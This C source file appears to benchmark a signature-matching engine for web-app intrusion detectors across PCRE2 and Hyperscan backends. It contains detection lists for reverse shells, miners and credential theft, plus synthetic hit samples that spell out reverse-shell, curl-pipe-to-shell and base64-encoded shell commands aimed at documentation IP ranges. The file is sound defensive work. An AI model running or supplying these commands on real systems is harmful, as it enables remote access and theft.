/* Signature engine benchmark (bench/README.md, "Signatures"): the three
 * workloads the App Service detectors run, each through every backend
 * built in, timed per field.
 *
 *   paths  ~60 sensitive / vulnerable URL path patterns (mostly literals,
 *          some re: with anchors) over request paths, ~3% of them hits
 *   ua     ~40 scanner user-agent literals over user agents, ~2% hits
 *   cmd    ~80 command-line patterns (literals and re:) over command lines
 *          of a web app's host, ~2% hits
 *
 * The fields are generated in memory from a seeded PRNG before the clock
 * starts; each pass calls sigset_first on every field (what a detector
 * does), then sigset_all on every field; the median of the passes is
 * printed. Both backends must count the same hits, or it exits 1.
 *
 *   sigset_bench [-n FIELDS] [-p PASSES] [-s SEED] [-w paths|ua|cmd] [-b pcre2|hyperscan]
 */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "detect/sigset.h"

#define N_OF(a) (sizeof(a) / sizeof *(a))

/* ---- patterns ------------------------------------------------------------ */

static const char *const path_patterns[] = {
    "/.env", "/.git/", "/.svn/", "/.hg/", "/.aws/", "/.ssh/", "wp-config.php", "/phpmyadmin", "/pma/",
    "/adminer", "/server-status", "/server-info", "/.htaccess", "/.htpasswd", "/web.config", "/etc/passwd",
    "/proc/self/environ", "/actuator/", "/.ds_store", "/config.json", "/settings.py", "/.npmrc", "/.dockerenv",
    "/docker-compose.yml", "/id_rsa", "/dump.sql", "eval-stdin.php", "/cgi-bin/", "/_profiler", "/telescope",
    "/.vscode/", "/.idea/", "/composer.json", "/.bash_history", "/xmlrpc.php", "/wp-admin/install.php",
    "/solr/admin", "/jmx-console", "/manager/html", "/hnap1", "/boaform", "/owa/auth", "/ecp/", "/api/jsonws",
    "/_ignition/execute-solution", "/vendor/phpunit", "/debug/pprof", "/elmah.axd", "/trace.axd",
    "/.terraform", "/console/login", "/kudu", "/scm/",
    "re:\\.(bak|old|swp|sql|orig|save|tmp)$", "re:~$", "re:^/(admin|administrator)(/|$)",
    "re:\\.(zip|tgz|tar\\.gz|7z|rar)$", "re:/\\.[a-z0-9_-]+rc$", "re:/(shell|cmd|c99|r57|wso)\\.(php|aspx?|jsp)$",
    "re:\\.(php|aspx?|jsp)\\.(txt|bak|old)$", "re:^/(db|database|backup)[^/]*\\.(sql|gz)$",
};

static const char *const ua_patterns[] = {
    "sqlmap", "nikto", "nmap scripting engine", "masscan", "zgrab", "nuclei", "wpscan", "dirbuster",
    "gobuster", "acunetix", "nessus", "openvas", "w3af", "arachni", "burp", "zmeu", "morfeus", "jorgee",
    "hydra", "feroxbuster", "fuzz faster u fool", "wfuzz", "commix", "havij", "fimap", "netsparker",
    "appscan", "qualys", "webinspect", "skipfish", "whatweb", "censysinspect", "expanse", "leakix",
    "internet-measurement", "xenu", "dirsearch", "jaeles", "httpx", "paros",
};

static const char *const cmd_patterns[] = {
    "/dev/tcp/", "/dev/udp/", "bash -i", "sh -i", "nc -e", "ncat -e", "netcat -e", "mkfifo /tmp/",
    "socat exec:", "socat tcp", "telnet ", "xmrig", "stratum+tcp://", "stratum+ssl://", "minerd", "cpuminer",
    "--donate-level", "/dev/shm/", "cat /etc/shadow", "cat /etc/passwd", "/etc/sudoers", "id_rsa",
    "authorized_keys", ".bash_history", "history -c", "unset histfile", "chattr +i", "crontab -",
    "/etc/cron.d/", "/var/spool/cron", "useradd ", "usermod ", "passwd ", "setcap ", "insmod ", "iptables -f",
    "ufw disable", "setenforce 0", "systemctl disable", "kill -9 -1", "pkill -f", "rm -rf /var/log",
    "shred ", "base64 -d", "base64 --decode", "xxd -r", "openssl enc", "python -c", "python3 -c", "perl -e",
    "ruby -e", "php -r", "lua -e", "awk 'begin", "powershell -enc", "certutil -urlcache", "bitsadmin /transfer",
    "wmic process call create", "net user ", "whoami /priv", "mimikatz", "procdump", "lsass",
    "re:(curl|wget)\\s[^|]*\\|\\s*(ba|z|da)?sh\\b", "re:/dev/tcp/[0-9.]+/[0-9]+",
    "re:\\b(nc|ncat|netcat)\\b.*\\s-[a-z]*e\\s", "re:chmod\\s+[+0-7]*[x7][0-7]*\\s+/(tmp|dev/shm|var/tmp)/",
    "re:^\\s*(whoami|id|uname -a|hostname|ifconfig)\\s*$", "re:python[0-9.]*\\s+-c\\s+.*socket",
    "re:\\becho\\s+[a-z0-9+/=]{40,}", "re:\\|\\s*base64\\s+-d\\s*\\|", "re:/tmp/\\.[a-z0-9]+",
    "re:wget\\s+(-q\\s+)?https?://[0-9.]+/", "re:curl\\s+(-[a-z]+\\s+)*https?://[0-9.]+(:[0-9]+)?/",
    "re:\\bsocket\\.socket\\(", "re:/bin/(ba)?sh\\s+-c\\s+.*(curl|wget)", "re:\\bnohup\\b.*&\\s*$",
    "re:/proc/[0-9]+/mem", "re:ld_preload=",
};

/* ---- generated fields --------------------------------------------------- */

static uint64_t rng_state;

static uint64_t rnd(void) {
    uint64_t z = (rng_state += UINT64_C(0x9e3779b97f4a7c15));
    z = (z ^ (z >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)) * UINT64_C(0x94d049bb133111eb);
    return z ^ (z >> 31);
}

static unsigned below(unsigned n) { return (unsigned)(rnd() % n); }
static const char *pick(const char *const *v, size_t n) { return v[rnd() % n]; }
#define PICK(a) pick(a, N_OF(a))

static const char *const words[] = { "summer", "sale", "blue", "running", "shoes", "kitchen", "garden", "guide",
                                     "review", "best", "new", "how-to", "travel", "coffee", "winter", "report" };
static const char *const exts[] = { "jpg", "png", "webp", "gif", "css", "js", "svg", "woff2" };

static int benign_path(char *o, size_t cap) {
    switch (below(10)) {
    case 0: return snprintf(o, cap, "/wp-content/uploads/20%02u/%02u/img_%u.%s", 18 + below(7), 1 + below(12),
                            below(10000), PICK(exts));
    case 1: return snprintf(o, cap, "/api/orders/%u", below(1000000));
    case 2: return snprintf(o, cap, "/api/v2/customers/%u/invoices/%u", below(100000), below(1000));
    case 3: return snprintf(o, cap, "/static/%s/app.%08" PRIx64 ".%s", below(2) ? "js" : "css",
                            rnd() & 0xffffffff, below(2) ? "js" : "css");
    case 4: return snprintf(o, cap, "/products/%s-%s/item-%u", PICK(words), PICK(words), below(100000));
    case 5: return snprintf(o, cap, "/blog/20%02u/%02u/%s-%s-%s", 18 + below(7), 1 + below(12), PICK(words),
                            PICK(words), PICK(words));
    case 6: {
        static const char *const fixed[] = { "/", "/index.html", "/favicon.ico", "/robots.txt", "/sitemap.xml",
                                             "/login", "/cart", "/checkout", "/account/settings", "/health" };
        return snprintf(o, cap, "%s", PICK(fixed));
    }
    case 7: return snprintf(o, cap, "/search/%s", PICK(words));
    case 8: return snprintf(o, cap, "/assets/fonts/%s-%s.woff2", PICK(words), PICK(words));
    default: return snprintf(o, cap, "/media/catalog/product/%c/%c/%s_%u.jpg", 'a' + below(26), 'a' + below(26),
                             PICK(words), below(1000));
    }
}

static int hit_path(char *o, size_t cap) {
    static const char *const hits[] = {
        "/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/phpmyadmin/index.php", "/admin/config.php",
        "/server-status", "/.aws/credentials", "/static/../../etc/passwd", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/luci", "/actuator/env", "/.DS_Store", "/web.config", "/db_backup.sql.gz", "/index.php~",
        "/uploads/shell.php", "/site.tar.gz", "/.bashrc", "/config.php.txt", "/Admin", "/xmlrpc.php",
    };
    return snprintf(o, cap, "%s", PICK(hits));
}

static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.%u.%u Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%u Safari/605.1.%u",
    "Mozilla/5.0 (X11; Linux x86_64; rv:%u.0) Gecko/20100101 Firefox/%u.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_%u like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E%u Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.0.0 Safari/537.36 Edg/%u.0.%u.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.%u.%u Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.%u.%u", "python-requests/2.%u.%u", "okhttp/4.%u.%u", "Azure-Monitor-Availability/%u.%u",
};
static const char *const scanners[] = {
    "sqlmap/1.7.%u#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.%u) (Evasions:None) (Test:000%u)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 zgrab/0.%u", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.%u (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.%u",
    "Fuzz Faster U Fool v2.%u", "Mozilla/5.0 (compatible; CensysInspect/1.%u; +https://about.censys.io/)",
    "masscan/1.%u (https://github.com/robertdavidgraham/masscan)", "Expanse, a Palo Alto Networks company",
};

static int benign_ua(char *o, size_t cap) {
    return snprintf(o, cap, PICK(browsers), 100 + below(30), below(7000), below(300));
}

/* The formats use up to three numbers; printf ignores the ones a format
 * does not name. */
static int hit_ua(char *o, size_t cap) { return snprintf(o, cap, PICK(scanners), below(10), below(10), 0u); }

static int benign_cmd(char *o, size_t cap) {
    switch (below(12)) {
    case 0: return snprintf(o, cap, "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:%u", 8000 + below(100));
    case 1: return snprintf(o, cap, "node /home/site/wwwroot/server.js --port %u", 3000 + below(10));
    case 2: return snprintf(o, cap, "/bin/sh -c ls -la /var/www/html/uploads/%u", below(1000));
    case 3: return snprintf(o, cap, "php-fpm: pool www");
    case 4: return snprintf(o, cap, "bash /opt/scripts/backup.sh 2024-%02u-%02u", 1 + below(12), 1 + below(28));
    case 5: return snprintf(o, cap, "java -Xmx%ug -XX:+UseG1GC -jar /opt/app/app.jar --spring.profiles.active=prod",
                            1 + below(8));
    case 6: return snprintf(o, cap, "dotnet /home/site/wwwroot/Contoso.Web.dll --urls http://0.0.0.0:%u",
                            8080 + below(2));
    case 7: return snprintf(o, cap, "tar czf /tmp/logs-%u.tgz /var/log/app", below(100000));
    case 8: return snprintf(o, cap, "curl -s -o /dev/null -w %%{http_code} http://localhost:%u/health",
                            8080 + below(2));
    case 9: return snprintf(o, cap, "grep -r ERROR /var/log/app/app-%u.log", below(100));
    case 10: return snprintf(o, cap, "/usr/bin/git -C /home/site/repository pull origin main");
    default: return snprintf(o, cap, "sleep %u", below(60));
    }
}

static int hit_cmd(char *o, size_t cap) {
    static const char *const hits[] = {
        "bash -i >& /dev/tcp/203.0.113.%u/4444 0>&1",
        "/bin/sh -c curl -fsSL http://198.51.100.%u/x.sh | sh",
        "wget -q http://198.51.100.%u/xmrig -O /tmp/.x",
        "nc -e /bin/sh 203.0.113.%u 4444",
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.%u\",443))'",
        "cat /etc/shadow", "whoami", "uname -a",
        "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS84MDgwIDA+JjE= | base64 -d | bash",
        "chmod +x /tmp/kdevtmpfsi", "/tmp/.ice-unix/xmrig --donate-level 1 -o stratum+tcp://pool.example:%u",
        "crontab -l", "perl -e 'use Socket;$i=\"10.0.0.%u\"'",
    };
    return snprintf(o, cap, PICK(hits), below(255), 0u, 0u);
}

struct fields {
    char *text;
    uint32_t *off, *len;
    size_t n;
};

typedef int (*gen_fn)(char *o, size_t cap);

/* n fields, hit_per_mille of them from the hit generator. */
static struct fields generate(size_t n, unsigned hit_per_mille, gen_fn benign, gen_fn hit) {
    struct fields f = { malloc(n * 256), malloc(n * sizeof(uint32_t)), malloc(n * sizeof(uint32_t)), n };
    if (!f.text || !f.off || !f.len) { fputs("sigset_bench: out of memory\n", stderr); exit(2); }
    size_t at = 0;
    for (size_t i = 0; i < n; i++) {
        int len = below(1000) < hit_per_mille ? hit(f.text + at, 256) : benign(f.text + at, 256);
        if (len > 255) len = 255;
        f.off[i] = (uint32_t)at;
        f.len[i] = (uint32_t)len;
        at += (size_t)len;
    }
    return f;
}

static void fields_free(struct fields *f) {
    free(f->text);
    free(f->off);
    free(f->len);
}

/* ---- timing ------------------------------------------------------------- */

static double now_s(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec * 1e-9;
}

static int cmp_double(const void *a, const void *b) {
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static double median(double *v, int n) {
    qsort(v, (size_t)n, sizeof *v, cmp_double);
    return n % 2 ? v[n / 2] : (v[n / 2 - 1] + v[n / 2]) / 2;
}

struct result {
    double first_ns, all_ns, compile_ms;
    size_t hits, all_ids;
};

static struct result run_backend(const char *name, const char *const *pat, size_t npat, const struct fields *f,
                                 int passes) {
    struct result r = { 0 };
    char err[512];
    double t0 = now_s();
    struct sigset *s = sigset_compile(name, pat, npat, err, sizeof err);
    r.compile_ms = (now_s() - t0) * 1e3;
    if (!s) { fprintf(stderr, "sigset_bench: %s\n", err); exit(2); }
    double first[32], all[32];
    uint32_t ids[128];
    for (int p = 0; p < passes; p++) {
        size_t hits = 0, nids = 0;
        t0 = now_s();
        for (size_t i = 0; i < f->n; i++) hits += sigset_first(s, f->text + f->off[i], f->len[i]) >= 0;
        first[p] = (now_s() - t0) * 1e9 / (double)f->n;
        t0 = now_s();
        for (size_t i = 0; i < f->n; i++) nids += sigset_all(s, f->text + f->off[i], f->len[i], ids, 128);
        all[p] = (now_s() - t0) * 1e9 / (double)f->n;
        r.hits = hits;
        r.all_ids = nids;
    }
    r.first_ns = median(first, passes);
    r.all_ns = median(all, passes);
    sigset_free(s);
    return r;
}

struct workload {
    const char *name;
    const char *const *pat;
    size_t npat;
    unsigned hit_per_mille;
    gen_fn benign, hit;
};

int main(int argc, char **argv) {
    size_t n = 1000000;
    int passes = 5;
    uint64_t seed = 1;
    const char *only_workload = NULL, *only_backend = NULL;
    int opt;
    while ((opt = getopt(argc, argv, "n:p:s:w:b:")) != -1) {
        switch (opt) {
        case 'n': n = strtoull(optarg, NULL, 10); break;
        case 'p': passes = atoi(optarg); break;
        case 's': seed = strtoull(optarg, NULL, 10); break;
        case 'w': only_workload = optarg; break;
        case 'b': only_backend = optarg; break;
        default:
            fprintf(stderr, "usage: sigset_bench [-n FIELDS] [-p PASSES] [-s SEED] [-w paths|ua|cmd] "
                            "[-b pcre2|hyperscan]\n");
            return 2;
        }
    }
    if (passes < 1 || passes > 32 || n == 0) { fputs("sigset_bench: -p 1..32, -n > 0\n", stderr); return 2; }
    const struct workload wl[] = {
        { "paths", path_patterns, N_OF(path_patterns), 30, benign_path, hit_path },
        { "ua", ua_patterns, N_OF(ua_patterns), 20, benign_ua, hit_ua },
        { "cmd", cmd_patterns, N_OF(cmd_patterns), 20, benign_cmd, hit_cmd },
    };
    const char *const backends[] = { "pcre2", "hyperscan" };
    int rc = 0;
    printf("%-6s %-10s %8s %5s %8s %8s %12s %12s %10s\n", "set", "backend", "fields", "pats", "avg_len", "hits",
           "first_ns", "all_ns", "compile_ms");
    for (size_t w = 0; w < N_OF(wl); w++) {
        if (only_workload && strcmp(only_workload, wl[w].name) != 0) continue;
        rng_state = seed;
        struct fields f = generate(n, wl[w].hit_per_mille, wl[w].benign, wl[w].hit);
        double avg_len = 0;
        for (size_t i = 0; i < n; i++) avg_len += f.len[i];
        avg_len /= (double)n;
        size_t ref_hits = SIZE_MAX, ref_ids = SIZE_MAX;
        for (size_t b = 0; b < N_OF(backends); b++) {
            if (only_backend && strcmp(only_backend, backends[b]) != 0) continue;
            if (sigset_use_backend(backends[b]) != 0) continue;
            struct result r = run_backend(wl[w].name, wl[w].pat, wl[w].npat, &f, passes);
            printf("%-6s %-10s %8zu %5zu %8.1f %8zu %12.1f %12.1f %10.2f\n", wl[w].name, backends[b], n, wl[w].npat,
                   avg_len, r.hits, r.first_ns, r.all_ns, r.compile_ms);
            if (ref_hits != SIZE_MAX && (r.hits != ref_hits || r.all_ids != ref_ids)) {
                fprintf(stderr, "sigset_bench: %s: backends disagree (%zu/%zu hits, %zu/%zu ids)\n", wl[w].name,
                        r.hits, ref_hits, r.all_ids, ref_ids);
                rc = 1;
            }
            ref_hits = r.hits;
            ref_ids = r.all_ids;
        }
        fields_free(&f);
    }
    return rc;
}
